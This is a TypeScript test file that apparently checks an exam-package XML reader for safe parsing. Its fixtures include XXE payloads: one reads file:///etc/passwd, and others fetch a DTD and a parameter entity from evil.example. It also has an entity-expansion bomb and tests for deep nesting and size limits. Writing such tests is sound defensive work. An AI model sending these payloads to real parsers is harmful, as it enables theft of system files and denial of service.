import * as fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { printFinding } from '#server/features/exam/paper/paper.ts'
import { choices, makeItem, makeManifest, readFiles, response } from './testing.ts'
import { parseXml } from './xml.ts'

describe('XML is read without external entities', () => {
  const reported = (xml: string) =>
    readFiles({
      'imsmanifest.xml': makeManifest([{ path: 'a.xml', kind: 'item' }]),
      'a.xml': xml,
    }).findings.map(printFinding)
  test.each([
    ['a file of the machine', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a>&x;</a>'],
    ['an address', '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">\n<a/>'],
    [
      'entities that grow',
      `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "${'&a;'.repeat(10)}"><!ENTITY c "${'&b;'.repeat(10)}">]>\n<a>&c;</a>`,
    ],
    ['entities of parameters', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>\n<a/>'],
  ])('%s', (_, xml) => {
    expect(reported(xml).join('\n')).toContain('a.xml:1: declares a document type; take it out')
  })
  it('refuses deep nesting and text that is not UTF-8', () => {
    const deep = '<a>\n'.repeat(300) + '</a>'.repeat(300)
    const tooDeep = 'elements stand more than 200 deep'
    expect(reported(deep)).toEqual([`a.xml:201: ${tooDeep}`])
    expect(reported(`<r><!--${'</a>'.repeat(300)}-->${deep}</r>`)).toEqual([`a.xml:200: ${tooDeep}`])
    const { findings } = parseXml('a.xml', Uint8Array.of(0xff, 0xfe, 0x3c, 0))
    expect(findings.map(printFinding)).toEqual(['a.xml:1: is not UTF-8; save the file as UTF-8'])
  })
  it('refuses more elements than a question can have, before they take memory', () => {
    expect(reported(`<r>${'<a/>'.repeat(50_000)}</r>`)).toEqual(['a.xml:1: has more than 50000 elements'])
  })

  it('accepts text that only looks deeply nested', () => {
    const flat = `<!--${'<a>'.repeat(300)}--><![CDATA[${'<a>'.repeat(300)}]]>${'<a x="1 > 0"/>'.repeat(300)}`
    expect(parseXml('a.xml', new TextEncoder().encode(`<r>${flat}</r>`)).findings).toEqual([])
  })
  it('reports some of many faults', () => {
    expect(reported(`<r>${'<'.repeat(5000)}`).length).toBeLessThan(30)
  })
  it('is read quickly, however many spaces it contains', { timeout: 5000 }, () => {
    const xml = makeItem('a', {
      responses: response('RESPONSE', ['A']),
      body: `<p>a${' '.repeat(400_000)}b</p>${choices({ A: 'yes', B: 'no' })}`,
    })
    expect(reported(xml)).toEqual([])
  })
  it('never throws, for any combination of pieces', () => {
    const piece = fc.constantFrom(
      ...'<qti-assessment-item> </qti-assessment-item> <qti-item-body> </qti-item-body> <qti-choice-interaction> <qti-simple-choice/> <qti-response-processing> <qti-match/> <qti-response-condition/> & < > " \' &amp; ]]> <![CDATA[ <!-- --> <?x x:y="1" </'.split(
        ' ',
      ),
      '<qti-response-declaration identifier="R" cardinality="single"/>',
      'xmlns="u" ',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const item = `<qti-assessment-item>${pieces.join('')}</qti-assessment-item>`
        const manifest = makeManifest([{ path: 'a.xml', kind: 'item' }])
        expect(() => readFiles({ 'imsmanifest.xml': manifest, 'a.xml': item })).not.toThrow()
        expect(() => readFiles({ 'imsmanifest.xml': pieces.join('') })).not.toThrow()
      }),
      { numRuns: 500 },
    )
  })
})
